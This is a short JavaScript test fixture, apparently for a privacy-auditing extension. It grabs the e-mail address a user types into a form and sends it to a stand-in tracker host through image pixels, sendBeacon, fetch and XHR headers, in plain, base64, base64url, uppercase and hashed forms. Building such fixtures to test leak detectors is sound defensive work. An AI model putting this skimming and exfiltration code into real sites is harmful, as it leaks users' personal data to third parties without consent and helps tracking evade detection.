// adnet "leak lab" (demo, issue 17): sends the typed e-mail address in every encoding the auditor must recognise,
// each over a different channel (image URL, sendBeacon, fetch keepalive, XHR, header), so one e2e test covers them all.
(function () {
  function hex(buf) {
    return Array.from(new Uint8Array(buf), function (b) { return b.toString(16).padStart(2, '0'); }).join('');
  }
  function b64(s) { return btoa(String.fromCharCode.apply(null, Array.from(new TextEncoder().encode(s)))); }
  var sent = false;
  document.addEventListener('change', function (e) {
    var el = e.target;
    if (sent || !el || el.type !== 'email' || !el.value) return;
    sent = true;
    var v = el.value;
    var n = v.trim().toLowerCase();
    var B = 'https://tracker.adnet.test/beacon';
    new Image(1, 1).src = 'https://tracker.adnet.test/pixel.gif?plain=' + v.replace('@', '@');
    navigator.sendBeacon(B + '?u=' + encodeURIComponent(v));
    navigator.sendBeacon(B, 'UP=' + v.toUpperCase());
    fetch(B, { method: 'POST', body: JSON.stringify({ d: b64(JSON.stringify({ user: { mail: v } })) }), keepalive: true, mode: 'no-cors' });
    fetch(B, { method: 'POST', body: 'u=' + b64(v).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, ''), mode: 'no-cors' });
    crypto.subtle.digest('SHA-1', new TextEncoder().encode(n)).then(function (d) { navigator.sendBeacon(B, 'h1=' + hex(d)); });
    crypto.subtle.digest('SHA-256', new TextEncoder().encode(v)).then(function (d) {
      var x = new XMLHttpRequest();
      x.open('POST', B);
      // A CORS-safelisted header: a custom one would need a preflight this demo server does not answer, and the
      // browser would never send the request (the extension, watching the wire, rightly sees no copy then).
      x.setRequestHeader('Content-Language', hex(d).toUpperCase());
      x.send('ok');
    });
  }, true);
})();
